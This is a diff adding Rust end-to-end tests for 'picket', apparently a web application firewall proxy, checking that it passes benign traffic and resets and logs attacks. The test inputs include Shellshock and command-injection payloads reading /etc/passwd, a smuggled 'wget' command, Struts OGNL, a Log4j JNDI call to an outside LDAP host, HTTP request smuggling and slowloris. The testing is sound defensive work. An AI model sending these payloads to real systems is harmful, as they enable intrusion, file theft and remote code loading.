@@ -1,0 +1,409 @@
+//! `picket proxy` in gateway mode, end to end on 127.0.0.1: the real binary, a real backend
+//! (`tests/support/backend.py`), curl and raw sockets as clients. Every process a test starts
+//! is stopped by its PID when the test ends, pass or fail.
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{SocketAddr, TcpStream};
+use std::path::PathBuf;
+use std::process::{Child, Command, Stdio};
+use std::sync::mpsc;
+use std::time::{Duration, Instant};
+
+/// A child process killed on drop.
+struct Proc(Child);
+
+impl Drop for Proc {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+struct Backend {
+    _proc: Proc,
+    addr: SocketAddr,
+}
+
+fn backend() -> Backend {
+    let script = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/support/backend.py");
+    let mut child = Command::new("python3")
+        .arg(script)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("python3 backend");
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().unwrap())
+        .read_line(&mut line)
+        .unwrap();
+    let port: u16 = line.trim().parse().expect("backend port");
+    Backend {
+        _proc: Proc(child),
+        addr: SocketAddr::from(([127, 0, 0, 1], port)),
+    }
+}
+
+struct Picket {
+    proc: Proc,
+    addr: SocketAddr,
+    /// Block log lines (stdout), as they arrive.
+    lines: mpsc::Receiver<String>,
+}
+
+impl Picket {
+    fn start(upstream: SocketAddr, extra: &[&str]) -> Picket {
+        let mut child = Command::new(env!("CARGO_BIN_EXE_picket"))
+            .args([
+                "proxy",
+                "--listen",
+                "127.0.0.1:0",
+                "--upstream",
+                &upstream.to_string(),
+            ])
+            .args(["--log-format", "json"])
+            .args(extra)
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .expect("picket proxy");
+        let stderr = BufReader::new(child.stderr.take().unwrap());
+        let (addr_tx, addr_rx) = mpsc::channel();
+        std::thread::spawn(move || {
+            let mut sent = false;
+            for line in stderr.lines().map_while(Result::ok) {
+                if !sent && line.contains("picket proxy started") {
+                    let v: serde_json::Value = serde_json::from_str(&line).unwrap();
+                    let _ = addr_tx.send(v["fields"]["listen"].as_str().unwrap().to_string());
+                    sent = true;
+                }
+            }
+        });
+        let stdout = BufReader::new(child.stdout.take().unwrap());
+        let (tx, lines) = mpsc::channel();
+        std::thread::spawn(move || {
+            for line in stdout.lines().map_while(Result::ok) {
+                let _ = tx.send(line);
+            }
+        });
+        let addr = addr_rx
+            .recv_timeout(Duration::from_secs(20))
+            .expect("picket did not start")
+            .parse()
+            .unwrap();
+        Picket {
+            proc: Proc(child),
+            addr,
+            lines,
+        }
+    }
+
+    fn url(&self, path: &str) -> String {
+        format!("http://{}{}", self.addr, path)
+    }
+
+    /// The next block log line, parsed.
+    fn next_log(&self) -> serde_json::Value {
+        let line = self
+            .lines
+            .recv_timeout(Duration::from_secs(5))
+            .expect("no block log line");
+        serde_json::from_str(&line).unwrap_or_else(|e| panic!("{line}: {e}"))
+    }
+
+    fn no_more_logs(&self) {
+        if let Ok(l) = self.lines.recv_timeout(Duration::from_millis(300)) {
+            panic!("unexpected block log line: {l}");
+        }
+    }
+}
+
+/// curl's exit status and stdout.
+fn curl(args: &[&str]) -> (i32, String) {
+    let out = Command::new("curl")
+        .args(["-sS", "--max-time", "10"])
+        .args(args)
+        .output()
+        .expect("curl");
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+    )
+}
+
+const CURL_RESET: i32 = 56;
+
+fn check_block_line(v: &serde_json::Value, sig: &str, location: &str, path: &str) {
+    assert_eq!(v["event"], "block", "{v}");
+    assert_eq!(v["signature"]["id"], sig, "{v}");
+    assert_eq!(v["location"], location, "{v}");
+    assert_eq!(v["path"], path, "{v}");
+    assert_eq!(v["direction"], "inbound");
+    assert_eq!(v["proto"], "http1");
+    assert_eq!(v["action"], "reset");
+    assert_eq!(v["mode"], "protect");
+    assert!(v["signature"]["name"]
+        .as_str()
+        .is_some_and(|s| !s.is_empty()));
+    assert!(v["signature"]["severity"].is_string());
+    assert!(v["request_id"].as_str().is_some_and(|s| !s.is_empty()));
+    assert!(v["src"].as_str().unwrap().starts_with("127.0.0.1:"));
+    assert!(v["dst"].as_str().unwrap().starts_with("127.0.0.1:"));
+    assert!(v["pack_version"].as_str().is_some_and(|s| !s.is_empty()));
+    assert!(v["excerpt"].is_string());
+    let ts = v["ts"].as_str().unwrap();
+    assert!(
+        ts.ends_with('Z') && ts.len() >= 20 && &ts[4..5] == "-" && &ts[10..11] == "T",
+        "{ts}"
+    );
+}
+
+#[test]
+fn benign_requests_pass_exactly_as_sent() {
+    let b = backend();
+    let p = Picket::start(b.addr, &[]);
+    let (rc, body) = curl(&[
+        "-H",
+        "X-Custom-HEADER: MiXeD",
+        &p.url("/search?q=bash+away+in+the+gym"),
+    ]);
+    assert_eq!(rc, 0);
+    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
+    assert_eq!(v["path"], "/search?q=bash+away+in+the+gym");
+    // Header-name case reaches the application untouched.
+    assert!(
+        v["headers"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|h| h == "X-Custom-HEADER"),
+        "{v}"
+    );
+    let json = r#"{"comment":"select specialty hospital; ls 300 lexus"}"#;
+    let (rc, body) = curl(&[
+        "-H",
+        "Content-Type: application/json",
+        "--data",
+        json,
+        &p.url("/api/comments"),
+    ]);
+    assert_eq!(rc, 0);
+    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
+    assert_eq!(
+        (v["method"].as_str(), v["body_len"].as_u64()),
+        (Some("POST"), Some(json.len() as u64))
+    );
+    p.no_more_logs();
+}
+
+#[test]
+fn attacks_are_reset_and_logged() {
+    let b = backend();
+    let p = Picket::start(b.addr, &[]);
+    let (rc, _) = curl(&[
+        "-A",
+        "() { :; }; /bin/cat /etc/passwd",
+        &p.url("/cgi-bin/status"),
+    ]);
+    assert_eq!(rc, CURL_RESET);
+    check_block_line(
+        &p.next_log(),
+        "PKT-SHELLSHOCK-FUNC",
+        "header:user-agent",
+        "/cgi-bin/status",
+    );
+
+    let (rc, _) = curl(&[
+        "-H",
+        "Content-Type: application/json",
+        "--data",
+        r#"{"host":"10.0.0.1; cat /etc/passwd"}"#,
+        &p.url("/api/ping"),
+    ]);
+    assert_eq!(rc, CURL_RESET);
+    let v = p.next_log();
+    check_block_line(&v, "PKT-SHELL-CMD", "body:json:string", "/api/ping");
+    assert_eq!(v["method"], "POST");
+
+    let (rc, _) = curl(&[
+        "-H",
+        "Content-Type: %{(#_='multipart/form-data').(#cmd='id')}",
+        "--data",
+        "x=1",
+        &p.url("/struts/upload.action"),
+    ]);
+    assert_eq!(rc, CURL_RESET);
+    check_block_line(
+        &p.next_log(),
+        "PKT-STRUTS-OGNL",
+        "header:content-type",
+        "/struts/upload.action",
+    );
+
+    // Secrets are not copied into the log.
+    let (rc, _) = curl(&[
+        "-H",
+        "Authorization: Bearer SECRET-TOKEN-123 ${jndi:ldap://203.0.113.9/a}",
+        &p.url("/"),
+    ]);
+    assert_eq!(rc, CURL_RESET);
+    let v = p.next_log();
+    assert_eq!(v["signature"]["id"], "PKT-LOG4J-JNDI");
+    assert!(
+        !v["excerpt"].as_str().unwrap().contains("SECRET-TOKEN"),
+        "{v}"
+    );
+}
+
+/// Sends raw bytes and reads until the peer closes or resets; returns what arrived and
+/// whether the end was a reset.
+fn raw_exchange(addr: SocketAddr, pieces: &[&[u8]], pause: Duration) -> (Vec<u8>, bool) {
+    let mut s = TcpStream::connect(addr).unwrap();
+    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+    s.set_nodelay(true).unwrap();
+    for piece in pieces {
+        if s.write_all(piece).is_err() {
+            break;
+        }
+        std::thread::sleep(pause);
+    }
+    let mut got = Vec::new();
+    let mut buf = [0u8; 4096];
+    loop {
+        match s.read(&mut buf) {
+            Ok(0) => return (got, false),
+            Ok(n) => got.extend_from_slice(&buf[..n]),
+            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => return (got, true),
+            Err(e) => panic!("read: {e}"),
+        }
+    }
+}
+
+#[test]
+fn pipelined_requests_are_judged_one_by_one() {
+    let b = backend();
+    let p = Picket::start(b.addr, &[]);
+    let stream = b"GET /one HTTP/1.1\r\nHost: a\r\n\r\n\
+GET /two HTTP/1.1\r\nHost: a\r\n\r\n\
+GET /three?file=x%7Ccat%20/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n\
+GET /four HTTP/1.1\r\nHost: a\r\n\r\n";
+    let (got, reset) = raw_exchange(p.addr, &[stream], Duration::ZERO);
+    let text = String::from_utf8_lossy(&got);
+    assert!(reset, "the connection must end in a reset: {text}");
+    // Only the first two reached the backend; their responses may or may not have been
+    // delivered before the reset, but never a response to the third or fourth.
+    assert!(
+        !text.contains("/three") && !text.contains("/four"),
+        "{text}"
+    );
+    let v = p.next_log();
+    check_block_line(&v, "PKT-SHELL-CMD", "arg:file", "/three");
+}
+
+#[test]
+fn an_attack_in_tiny_writes_is_still_found() {
+    let b = backend();
+    let p = Picket::start(b.addr, &[]);
+    let req = b"POST /api/x HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 30\r\n\r\nip=127.0.0.1%0Awget%20http://x";
+    let pieces: Vec<&[u8]> = req.chunks(3).collect();
+    let (_, reset) = raw_exchange(p.addr, &pieces, Duration::from_millis(2));
+    assert!(reset);
+    check_block_line(&p.next_log(), "PKT-SHELL-CMD", "body:form:ip", "/api/x");
+}
+
+#[test]
+fn slowloris_is_cut_off_while_others_are_served() {
+    let b = backend();
+    let p = Picket::start(b.addr, &["--request-timeout", "1"]);
+    let mut slow = TcpStream::connect(p.addr).unwrap();
+    slow.write_all(b"GET / HTTP/1.1\r\nHost: a\r\nX-A: 1\r\n")
+        .unwrap();
+    let started = Instant::now();
+    // Another client is served meanwhile.
+    let (rc, _) = curl(&[&p.url("/fast")]);
+    assert_eq!(rc, 0);
+    slow.set_read_timeout(Some(Duration::from_secs(10)))
+        .unwrap();
+    let mut buf = [0u8; 64];
+    let n = slow.read(&mut buf).unwrap_or(0);
+    assert_eq!(n, 0, "the slow client gets no response");
+    let waited = started.elapsed();
+    assert!(waited < Duration::from_secs(8), "cut off after {waited:?}");
+}
+
+#[test]
+fn monitor_mode_forwards_and_logs_an_alert() {
+    let b = backend();
+    let p = Picket::start(b.addr, &["--mode", "monitor"]);
+    let (rc, body) = curl(&["-A", "() { :; }; /bin/id", &p.url("/cgi-bin/x")]);
+    assert_eq!(rc, 0);
+    assert!(body.contains("/cgi-bin/x"));
+    let v = p.next_log();
+    assert_eq!(v["event"], "alert");
+    assert_eq!(v["mode"], "monitor");
+    assert_eq!(v["signature"]["id"], "PKT-SHELLSHOCK-FUNC");
+}
+
+#[test]
+fn body_over_the_limit_in_both_fail_modes() {
+    let b = backend();
+    let body = "a=".to_string() + &"x".repeat(4000);
+    let closed = Picket::start(
+        b.addr,
+        &["--body-limit", "1024", "--over-limit", "fail-closed"],
+    );
+    let (rc, _) = curl(&["--data", &body, &closed.url("/upload")]);
+    assert_eq!(rc, CURL_RESET);
+    let v = closed.next_log();
+    assert_eq!(v["signature"]["id"], "PKT-PROTO-BODY-LIMIT");
+    assert_eq!(v["event"], "block");
+
+    let open = Picket::start(
+        b.addr,
+        &["--body-limit", "1024", "--over-limit", "fail-open"],
+    );
+    let (rc, out) = curl(&["--data", &body, &open.url("/upload")]);
+    assert_eq!(rc, 0);
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(v["body_len"], 4002);
+    let v = open.next_log();
+    assert_eq!(v["signature"]["id"], "PKT-PROTO-BODY-LIMIT");
+    assert_eq!(v["event"], "alert");
+}
+
+#[test]
+fn smuggling_attempt_is_reset() {
+    let b = backend();
+    let p = Picket::start(b.addr, &[]);
+    let req = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG";
+    let (got, reset) = raw_exchange(p.addr, &[req], Duration::ZERO);
+    assert!(reset && got.is_empty());
+    let v = p.next_log();
+    assert_eq!(v["signature"]["id"], "PKT-PROTO-CL-TE");
+    assert_eq!(v["location"], "head");
+}
+
+#[test]
+fn sigterm_drains_and_exits() {
+    let b = backend();
+    let mut p = Picket::start(b.addr, &["--drain-grace", "2"]);
+    let (rc, _) = curl(&[&p.url("/")]);
+    assert_eq!(rc, 0);
+    let pid = p.proc.0.id().to_string();
+    assert!(Command::new("kill")
+        .args(["-TERM", &pid])
+        .status()
+        .unwrap()
+        .success());
+    let deadline = Instant::now() + Duration::from_secs(10);
+    loop {
+        if let Some(status) = p.proc.0.try_wait().unwrap() {
+            assert!(status.success(), "{status}");
+            break;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "picket did not exit after SIGTERM"
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
